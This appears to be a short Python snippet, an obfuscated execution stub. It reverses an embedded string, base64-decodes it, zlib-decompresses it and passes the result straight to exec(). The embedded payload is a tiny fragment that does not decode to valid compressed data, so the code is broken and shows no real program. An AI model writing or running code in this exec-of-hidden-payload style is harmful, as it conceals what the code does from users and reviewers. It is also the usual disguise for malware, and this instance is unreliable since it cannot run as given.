import base64, zlib
_ = lambda __ : zlib.decompress(base64.b64decode(__[::-1]))
exec((_)(b'=8zPw5Vy'))
